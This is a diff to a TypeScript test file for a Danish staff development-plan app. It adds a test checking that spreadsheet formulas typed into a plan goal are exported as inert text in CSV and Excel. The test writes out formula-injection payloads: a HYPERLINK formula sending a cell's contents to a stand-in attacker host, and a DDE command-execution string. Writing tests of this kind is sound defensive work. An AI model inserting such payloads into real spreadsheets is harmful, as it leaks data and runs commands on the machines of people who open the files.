@@ -128,6 +128,25 @@ describe("exporting the department's development plans", () => {
   it('when an employee asks for them, then it is refused', async () => {
     expect((await harness.submit(demo.mette, { verb: verbs.exportRequest, kind: 'department-plans', subjectId: 'hjemmeplejen-nord' })).map(visibleText).join('\n')).toContain('ikke adgang');
   });
+
+  it("when a goal was typed as a spreadsheet formula, then Lars's CSV has it as inert text with a leading apostrophe and his Excel file as a text cell", async () => {
+    const attack = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")';
+    const plan = await harness.repos.plans.load(id(8), cycle, 'hjemmeplejen-nord');
+    await harness.repos.plans.save(id(8), cycle, plan, {
+      ...plan.plan, revision: 1, goals: [{ id: 'g1', competenceId: 'kommunikationskompetence', goal: attack, evaluation: '@SUM(1+1)*cmd|/C calc', actions: [] }],
+    }, id(8));
+    const offered = links(await harness.submit(demo.lars, { verb: verbs.exportRequest, kind: 'department-plans', subjectId: 'hjemmeplejen-nord' }));
+    const { parse } = await import('csv-parse/sync');
+    const csv = parse((await (await fetch(offered.get('Hent CSV')!)).text()).replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: true }) as string[][];
+    const peter = csv.find((row) => row[0] === 'Peter Larsen')!;
+    expect(peter[5]).toBe(`'${attack}`);
+    expect(peter[6]).toBe("'@SUM(1+1)*cmd|/C calc");
+    const ws = await sheet(offered.get('Hent Excel')!);
+    const cell = rowOf(ws, 'Peter Larsen').getCell(6);
+    expect(cell.type).toBe(ExcelJS.ValueType.String);
+    expect(cell.value).toBe(attack);
+    expect(cell.formula).toBeUndefined();
+  });
 });
 
 describe("HR's municipality-wide figures", () => {
